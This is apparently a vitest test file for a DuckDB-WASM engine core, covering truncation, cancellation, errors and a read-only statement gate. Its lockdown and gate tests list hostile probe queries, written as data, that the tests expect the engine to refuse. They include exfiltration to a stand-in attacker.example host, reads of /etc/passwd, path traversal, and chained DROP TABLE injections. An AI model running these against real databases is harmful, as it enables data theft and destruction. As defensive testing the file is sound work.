import { tableFromIPC } from 'apache-arrow';
import { beforeAll, describe, expect, it } from 'vitest';
import { batchRowCount, createEngineCore } from '../../../src/engine/core';
import { EngineError } from '../../../src/engine/errors';
import { createNodeEngine, openNodeBindings, type NodeEngine } from '../../support/node-engine';

let engine: NodeEngine;
beforeAll(async () => {
  engine = await createNodeEngine();
});

describe('engine core on DuckDB-WASM', () => {
  it('answers a query with Arrow IPC bytes', async () => {
    const result = await engine.core.query("SELECT 42::INTEGER AS answer, '生态' AS word");
    expect(result.ipc).toBeInstanceOf(Uint8Array);
    const table = tableFromIPC(result.ipc);
    expect(table.toArray()[0]?.toJSON()).toEqual({ answer: 42, word: '生态' });
    expect(result.truncated).toBe(false);
  });

  it('caps a large result at maxRows and says it was truncated', async () => {
    const result = await engine.core.query('SELECT i FROM range(100000) t(i)', { maxRows: 3000 });
    const table = tableFromIPC(result.ipc);
    expect(result.truncated).toBe(true);
    expect(table.numRows).toBeGreaterThanOrEqual(3000);
    expect(table.numRows).toBeLessThan(100000);
    // The abandoned rest of the stream does not leak into the next statement.
    expect(await engine.rows('SELECT 5::INTEGER AS five')).toEqual([{ five: 5 }]);
    const full = await engine.core.query('SELECT i FROM range(1000) t(i)', { maxRows: 3000 });
    expect(full.truncated).toBe(false);
    expect(tableFromIPC(full.ipc).numRows).toBe(1000);
  });

  it('counts the whole of a capped result when asked, keeping only the first rows', async () => {
    const result = await engine.core.query('SELECT i FROM range(60506) t(i)', {
      maxRows: 3000,
      countAll: true,
    });
    expect(result.truncated).toBe(true);
    expect(result.totalRows).toBe(60506);
    expect(tableFromIPC(result.ipc).numRows).toBeLessThan(10_000);
    const small = await engine.core.query('SELECT i FROM range(10) t(i)', {
      maxRows: 3000,
      countAll: true,
    });
    expect(small).toMatchObject({ truncated: false });
    expect(small.totalRows).toBeUndefined();
  });

  it('reads the row count of a record batch message from its header', async () => {
    const { ipc } = await engine.core.query('SELECT i FROM range(7) t(i)');
    const table = tableFromIPC(ipc);
    expect(table.numRows).toBe(7);
    // Find the batch message after the schema message: schema length prefix tells where it ends.
    const view = new DataView(ipc.buffer, ipc.byteOffset);
    const schemaLength = view.getInt32(4, true);
    expect(batchRowCount(ipc.subarray(8 + schemaLength))).toBe(7);
  });

  it('turns a bad statement into an error that carries the SQL', async () => {
    const sql = 'SELEC 1';
    const error = await engine.core.query(sql).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(EngineError);
    expect((error as EngineError).info).toMatchObject({ kind: 'sql', name: 'Parser Error', sql });
    // and the engine keeps working
    expect(await engine.rows('SELECT 1::INTEGER AS x')).toEqual([{ x: 1 }]);
  });

  it('cancels a running query and keeps answering afterwards', async () => {
    // Bindings that say when DuckDB is first polled for the query: it is running then.
    const bindings = (await openNodeBindings()).bindings;
    let polled!: () => void;
    const running = new Promise<void>((resolve) => (polled = resolve));
    const core = await createEngineCore({
      ...bindings,
      pollPendingQuery: (conn) => {
        polled();
        return bindings.pollPendingQuery(conn);
      },
    });
    const settled = core
      .query('SELECT count(*) FROM range(2000000000) t(i) WHERE i % 7 = 3', { id: 'slow' })
      .catch((e: unknown) => e);
    await running;
    expect(core.cancel('slow')).toBe(true);
    const error = await settled;
    expect(error).toBeInstanceOf(EngineError);
    expect((error as EngineError).info.kind).toBe('cancelled');
    const { ipc } = await core.query('SELECT 2::INTEGER AS x');
    expect(tableFromIPC(ipc).get(0)?.toJSON()).toEqual({ x: 2 });
  });

  it('cancels a queued query before it starts', async () => {
    const first = engine.core.query('SELECT count(*) FROM range(20000000) t(i)');
    const queued = engine.core.query('SELECT 1', { id: 'queued' }).catch((e: unknown) => e);
    expect(engine.core.cancel('queued')).toBe(true);
    await first;
    expect(((await queued) as EngineError).info.kind).toBe('cancelled');
    expect(engine.core.cancel('unknown')).toBe(false);
  });

  it('is locked down: no network, no files, no extensions, no SET after the lock', async () => {
    const probes = [
      "SELECT * FROM read_csv('https://attacker.example/?d=' || 'x')",
      "SET VARIABLE leak = 'secret'; SELECT * FROM read_csv('https://attacker.example/' || getvariable('leak'))",
      "SELECT * FROM read_csv('/etc/passwd')",
      "SELECT * FROM read_csv('/lab/../etc/passwd')",
      "ATTACH 'other.db' AS other",
      "COPY (SELECT 1) TO '/tmp/out.csv'",
      "SELECT * FROM glob('/*')",
      'LOAD httpfs',
      // INSTALL is a no-op in DuckDB-WASM (nothing is fetched); the LOAD after it must still fail.
      'INSTALL httpfs; LOAD httpfs',
      'SET enable_external_access = true',
      'SET lock_configuration = false',
      "SET allowed_directories = ['/']",
      "SELECT * FROM read_parquet('/lab/x.parquet')",
    ];
    for (const sql of probes) {
      const error = await engine.core.exec(sql).then(
        () => null,
        (e: unknown) => e,
      );
      expect(error, sql).toBeInstanceOf(EngineError);
    }
  });
});

describe('statement gate for panel SQL (readOnly)', () => {
  it('runs one SELECT or WITH, and refuses everything else before running anything', async () => {
    await engine.core.exec('CREATE TABLE gate_t AS SELECT 1 AS a');
    expect(
      (await engine.core.query('SELECT a FROM gate_t', { readOnly: true })).ipc.length,
    ).toBeGreaterThan(0);
    expect(
      (await engine.core.query('WITH x AS (SELECT 2 AS b) SELECT * FROM x', { readOnly: true })).ipc
        .length,
    ).toBeGreaterThan(0);
    const attacks = [
      'DROP TABLE gate_t',
      'SELECT 1; DROP TABLE gate_t',
      'SELECT * FROM (\nSELECT 1) AS cell; DROP TABLE gate_t; SELECT * FROM (SELECT 1\n) AS cell',
      "SET VARIABLE x = 'y'",
      'CREATE TABLE evil AS SELECT 1',
      'INSERT INTO gate_t VALUES (2)',
      'DELETE FROM gate_t',
      'UPDATE gate_t SET a = 3',
      "COPY gate_t TO '/lab/x.csv'",
      'ATTACH ":memory:" AS other',
      'SET threads = 1',
      'PRAGMA version',
      ';',
      // Text the lexer cannot finish cannot be parsed either, so nothing after it runs.
      'SELECT 1 /* ; DROP TABLE gate_t',
      "SELECT 'x ; DROP TABLE gate_t",
      "SELECT 1; SELECT 'x",
    ];
    for (const sql of attacks) {
      const error = await engine.core.query(sql, { readOnly: true }).catch((e: unknown) => e);
      expect(error, sql).toBeInstanceOf(EngineError);
    }
    expect(await engine.rows('SELECT a::INTEGER AS a FROM gate_t')).toEqual([{ a: 1 }]);
    expect(
      await engine.rows(
        "SELECT count(*)::INTEGER AS n FROM duckdb_tables() WHERE table_name = 'evil'",
      ),
    ).toEqual([{ n: 0 }]);
    // An injection that closes the wrapping subquery is refused as "several statements".
    const chained = (await engine.core
      .query('SELECT 1) AS q; DROP TABLE gate_t; SELECT * FROM (SELECT 1', { readOnly: true })
      .catch((e: unknown) => e)) as EngineError;
    expect(chained.info.code).toBe('sql.not-single-select');
    expect(chained.info.sql).toBe('SELECT 1) AS q; DROP TABLE gate_t; SELECT * FROM (SELECT 1');
  });

  it('lets `;` inside strings, quoted names and comments through, as one statement', async () => {
    const rows = tableFromIPC(
      (
        await engine.core.query(
          `SELECT ';' AS s, $$; DROP TABLE gate_t;$$ AS d, E'\\'; x' AS e, 1 AS ";" -- ; DROP\n`,
          { readOnly: true },
        )
      ).ipc,
    )
      .toArray()
      .map((row) => ({ ...row.toJSON() }));
    expect(rows).toEqual([{ s: ';', d: '; DROP TABLE gate_t;', e: "'; x", ';': 1 }]);
  });

  it('runs a statement that ends with semicolons, and refuses anything written after them', async () => {
    for (const sql of [
      'SELECT 42 AS a;',
      'SELECT 42 AS a ;; -- done\n',
      'SELECT 42 AS a; /* ok */',
    ]) {
      const table = tableFromIPC((await engine.core.query(sql, { readOnly: true })).ipc);
      expect(
        table.toArray().map((row) => ({ ...row.toJSON() })),
        sql,
      ).toEqual([{ a: 42 }]);
    }
    for (const sql of [
      'SELECT 42 AS a; DROP TABLE gate_t',
      "SELECT 42 AS a; 'unterminated",
      'SELECT 42 AS a; /* unterminated',
    ]) {
      const error = await engine.core.query(sql, { readOnly: true }).catch((e: unknown) => e);
      expect(error, sql).toBeInstanceOf(EngineError);
    }
    expect(await engine.rows('SELECT count(*)::INTEGER AS n FROM gate_t')).toEqual([{ n: 1 }]);
  });

  it('reports an error position in the text the caller wrote, not in the gated text', async () => {
    const error = (await engine.core
      .query('SELECT a b c FROM gate_t', { readOnly: true })
      .catch((e: unknown) => e)) as EngineError;
    expect(error.info.sql).toBe('SELECT a b c FROM gate_t');
    expect(error.info.name).toBe('Parser Error');
    expect(error.info.position).toBe(11);
  });
});
